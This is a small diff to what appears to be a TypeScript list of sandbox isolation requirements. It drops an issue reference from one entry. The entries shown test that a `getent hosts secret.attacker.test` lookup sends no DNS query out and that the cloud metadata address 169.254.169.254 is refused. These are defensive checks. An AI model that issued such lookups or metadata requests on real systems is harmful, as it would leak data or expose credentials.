@@ -1539,7 +1539,6 @@ export const REQUIREMENTS: readonly Requirement[] = [
     id: "ISO-14",
     rule: "box §10.6",
     says: "a host list is set; `getent hosts secret.attacker.test` / exec / no query leaves",
-    issue: 3,
   },
   { id: "ISO-15", rule: "box §10.6", says: "169.254.169.254 in every network mode / exec / refused" },
   {
